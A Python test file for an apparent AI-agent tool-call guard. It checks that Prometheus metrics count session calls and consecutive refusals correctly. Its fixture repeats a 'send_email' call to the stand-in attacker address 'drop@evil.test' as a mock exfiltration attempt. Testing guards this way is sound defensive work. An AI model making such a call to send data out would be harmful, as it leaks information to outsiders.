"""What the guard counts of a call besides its verdict."""

from pathlib import Path

from guard.core.model import Identity, ToolCall
from guard.pipeline.outcome import JudgeRequest
from guard.policy import load_policies
from guard.telemetry.metrics import PrometheusMetrics
from tests.guards import guard_on

POLICY = Path(__file__).resolve().parents[3] / "policies" / "default.yaml"


async def test_the_session_of_a_call_is_observed_as_it_was_before_the_call(store):
    """The first call of a session is number 1; refusals directly before a call are a run."""
    policy = load_policies([POLICY])
    metrics = PrometheusMetrics(policy)
    guard = guard_on(store, policy, metrics=metrics)

    for number in range(3):
        arguments = {"to": "drop@evil.test", "body": "b"}
        await guard.judge(
            JudgeRequest(
                [ToolCall(f"c{number}", Identity("p", "s"), "send_email", arguments, "mcp", number)]
            )
        )

    shown = metrics.registry.get_sample_value
    assert shown("guard_session_calls_bucket", {"le": "1.0"}) == 1
    assert shown("guard_session_calls_sum") == 1 + 2 + 3
    assert shown("guard_refused_in_a_row_bucket", {"le": "0.0"}) == 1
    assert shown("guard_refused_in_a_row_sum") == 0 + 1 + 2
    assert shown("guard_redis_seconds_count") == 3
